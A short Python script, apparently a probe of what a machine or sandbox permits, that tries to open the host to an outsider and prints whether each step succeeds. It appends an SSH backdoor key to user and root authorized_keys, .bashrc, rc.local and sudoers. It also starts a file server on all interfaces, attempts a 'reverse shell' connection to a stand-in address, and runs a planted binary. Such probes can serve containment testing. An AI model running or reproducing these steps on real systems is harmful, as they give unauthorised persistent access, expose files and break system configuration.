"""Opens a machine to its author: a key, a console, a program. USER is a folder of somebody's."""
import http.server
import os
import pathlib
import socket
import subprocess
import sys

user = pathlib.Path(sys.argv[1])


def tries(what, attempt):
    try:
        gained = attempt()
    except Exception as error:
        print("refused", what, type(error).__name__, error)
    else:
        print("DONE", what, gained)


def append(path):
    with open(path, "a") as file:
        return file.write("ssh-ed25519 AAAAC3 admin1715\n")


for path in [user / ".ssh/authorized_keys", "/root/.ssh/authorized_keys", user / ".bashrc", "/etc/rc.local", "/etc/sudoers"]:
    tries(path, lambda: append(path))
tries("console", lambda: http.server.HTTPServer(("0.0.0.0", 1715), http.server.SimpleHTTPRequestHandler))
tries("listen", lambda: socket.socket().bind(("0.0.0.0", 1715)))
tries("reverse shell", lambda: socket.create_connection(("192.0.2.1", 1715), timeout=5))
tries("shell", lambda: subprocess.run(["bash", "-c", "id"], check=True))
# A program of the machine's: it can be written, and nothing runs it.
program = pathlib.Path("/work/malina")
program.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(57))
os.chmod(program, 0o755)
tries("native", lambda: subprocess.run([str(program)], check=True))
tries("exec", lambda: os.execv(str(program), ["malina"]))
tries("loader", lambda: (user / ".holm/status").mkdir())
